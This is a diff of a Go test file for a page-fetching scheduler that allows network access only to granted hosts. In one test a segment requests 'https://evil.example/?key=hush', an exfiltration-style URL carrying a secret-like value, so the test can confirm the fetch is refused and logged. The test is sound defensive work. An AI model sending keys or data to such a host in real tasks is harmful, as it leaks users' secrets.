@@ -45,12 +45,10 @@ func TestPagesOfARememberedSegment(t *testing.T) {
 	render := func(want string, remembered bool, asks ...string) {
 		t.Helper()
 		r := w.of(now, `{}`, plan)
-		task := r.tasks()[0]
-		task.Run = asksFor(t, asks...)
-		task.Remembered = r.recall(plan.Segments[0], task.Call)
+		task := schedule.Task{Call: r.calls[0].Call, Run: asksFor(t, asks...), Remembered: r.calls[0].recall()}
 		o := schedule.One(task)
-		if !r.Keep([]schedule.Outcome{*o}) {
-			t.Fatal(r.Messages)
+		if !keep(r.request, r.configured, r.facts, r.calls, []schedule.Outcome{*o}) {
+			t.Fatal(r.messages)
 		}
 		text := ""
 		for _, s := range o.Spans {
@@ -60,7 +58,7 @@ func TestPagesOfARememberedSegment(t *testing.T) {
 			t.Errorf("it shows %q, remembered is %v; want %q, %v", text, o.Remembered, want, remembered)
 		}
 		var wishes []string
-		for _, wish := range r.pages["page"].Wishes() {
+		for _, wish := range r.calls[0].pages.Wishes() {
 			wishes = append(wishes, wish.URL)
 		}
 		if diff := cmp.Diff(asks, wishes); diff != "" {
@@ -100,10 +98,9 @@ func TestPagesOfARememberedSegment(t *testing.T) {
 
 	plan.Segments[0].Grant = []string{"http:other.example"}
 	r := w.of(now, `{}`, plan)
-	task := r.tasks()[0]
-	task.Run = asksFor(t, a)
-	if o := schedule.One(task); len(o.Spans) > 0 || len(r.pages["page"].Refusals()) != 1 {
-		t.Errorf("without the grant it shows %v; refusals are %q", o.Spans, r.pages["page"].Refusals())
+	task := schedule.Task{Call: r.calls[0].Call, Run: asksFor(t, a)}
+	if o := schedule.One(task); len(o.Spans) > 0 || len(r.calls[0].pages.Refusals()) != 1 {
+		t.Errorf("without the grant it shows %v; refusals are %q", o.Spans, r.calls[0].pages.Refusals())
 	}
 }
 
@@ -115,17 +112,15 @@ func TestRefusedPageIsLogged(t *testing.T) {
 		Segments: []config.Segment{{Name: "page", Grant: []string{"http:api.example.com"}}, {Name: "late", Grant: []string{"http:api.example.com"}}},
 	}
 	r := w.of(time.Now(), `{}`, plan)
-	r.Memo = nil
-	for _, task := range r.tasks() {
-		schedule.One(task)
-		if err := asksFor(t, "https://evil.example/?key=hush")(task.Call); err != nil {
+	for _, call := range r.calls {
+		if err := asksFor(t, "https://evil.example/?key=hush")(call.Call); err != nil {
 			t.Fatal(err)
 		}
 	}
 	r.Dirs.Cache = "" // nothing is kept
-	r.afterwards([]schedule.Outcome{{}, {Late: true}})
+	afterwards(r.request, r.configured, r.facts, r.calls, []schedule.Outcome{{}, {Late: true}}, newEngines(r.request, r.configured, r.calls))
 	want := []string{`segment page: https://evil.example/?… is not fetched: "evil.example" was not granted: grant http:evil.example, if you trust the segment with it`}
-	if diff := cmp.Diff(want, r.Messages); diff != "" {
+	if diff := cmp.Diff(want, r.messages); diff != "" {
 		t.Errorf("messages (-want +got):\n%s", diff)
 	}
 }
